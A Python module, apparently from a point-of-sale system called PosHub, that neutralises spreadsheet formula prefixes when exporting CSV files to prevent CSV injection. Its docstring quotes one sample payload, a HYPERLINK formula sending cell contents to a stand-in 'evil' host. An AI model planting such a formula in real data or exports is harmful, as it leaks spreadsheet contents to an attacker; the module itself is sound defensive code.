"""Every CSV (or spreadsheet) PosHub hands out is written through here.

A spreadsheet opening a CSV runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a
formula, and Excel treats a leading tab or carriage return the same way once it is
trimmed: a device or merchant record holding ``=HYPERLINK("http://evil/?"&A1,"Click")``
would leak the sheet or run a command when an operator opens an export (CSV injection,
OWASP). :func:`neutralise` prefixes such a cell with a single quote, which every
spreadsheet shows as text and no one reads as a formula; :func:`csv_bytes` applies it to
every cell and quotes fields as RFC 4180 wants.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Final

FORMULA_PREFIXES: Final = ("=", "+", "-", "@", "\t", "\r")
CSV_MEDIA_TYPE: Final = "text/csv; charset=utf-8"


def neutralise(value: object) -> str:
    """The cell as text, with a single quote in front when a spreadsheet would run it."""
    if value is None:
        return ""
    text = value if isinstance(value, str) else str(value)
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[object]]) -> bytes:
    """A UTF-8 CSV (with the BOM spreadsheets need to read Chinese) of neutralised cells."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([neutralise(cell) for cell in header])
    for row in rows:
        writer.writerow([neutralise(cell) for cell in row])
    return "\ufeff".encode() + out.getvalue().encode("utf-8")
